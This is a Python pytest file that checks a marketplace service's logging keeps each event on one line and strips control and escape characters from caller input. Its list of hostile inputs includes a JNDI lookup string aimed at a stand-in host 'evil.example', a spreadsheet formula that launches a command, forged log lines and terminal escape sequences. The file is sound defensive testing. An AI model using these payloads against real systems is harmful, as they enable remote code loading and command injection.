"""What a caller sends never becomes a line of our process log (T27)."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
import structlog

from marketplace.client.api import in_process
from marketplace.main import create_app
from marketplace.plumbing import telemetry
from marketplace.settings import Settings
from tests.house import House

HOSTILE = [
    "\n2026-09-01T00:00:00Z [error] you were hacked",
    '\r\n{"level":"error","event":"forged"}',
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07",
    "\x00",
    "\x08\x08\x08",
    "\x85next line",
    "\u2028line\u2029paragraph",
    "\u202eevil",
    "\ufeffmark",
    "%0a%0dpercent",
    "${jndi:ldap://evil.example/a}",
    "%(event)s %s {event}",
    '"}, {"event": "forged"',
    "=cmd|' /C calc'!A0",
    "a" * 5000,
]


@pytest.fixture(params=["embedded", "production"])
def lines(request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[io.StringIO]:
    written = io.StringIO()
    monkeypatch.setattr(telemetry, "_target", lambda _settings: written)
    before = structlog.get_config()
    settings = Settings(data_folder=tmp_path)
    telemetry.configure(settings.model_copy(update={"environment": request.param}))
    yield written
    structlog.configure(**before)


def test_each_event_is_one_line_whatever_it_says(lines: io.StringIO) -> None:
    for text in HOSTILE:
        structlog.get_logger().error("unexpected", path=text, kind=text)
        structlog.get_logger().warning(text)
    said = lines.getvalue()
    assert said.count("\n") == len(said.splitlines()) == 2 * len(HOSTILE)  # also by what else counts as a line break
    for control in ("\x00", "\x07", "\x08", "\x1b[2J", "\u202e"):
        assert control not in said
    for line in said.splitlines():
        if line.startswith("{"):
            assert json.loads(line)["level"] in {"error", "warning"}
            assert json.loads(line)["event"] != "forged"


def test_a_traceback_keeps_its_lines_and_escapes_what_the_caller_said(lines: io.StringIO) -> None:
    error = ValueError("\x1b[2J said the caller")
    structlog.get_logger().error("unexpected", exc_info=error)
    assert "ValueError" in lines.getvalue()
    assert "\x1b[2J" not in lines.getvalue()
    assert "said the caller" in lines.getvalue()


def test_a_hostile_address_leaves_one_line_per_request(house: House, lines: io.StringIO) -> None:
    base = house.runtime.settings.public_url
    app = create_app(house.runtime)
    with in_process(app, base) as http:
        lines.seek(0)
        lines.truncate()
        for text in HOSTILE[:6]:
            escaped = "".join(f"%{byte:02x}" for byte in text.encode())
            http.get(f"{base}/v1/assets/{escaped}", headers={"Authorization": "Bearer x"})
    said = lines.getvalue()
    assert "authentication refused" in said
    assert len(said.splitlines()) == said.count("authentication refused")
    assert "\x1b[2J" not in said
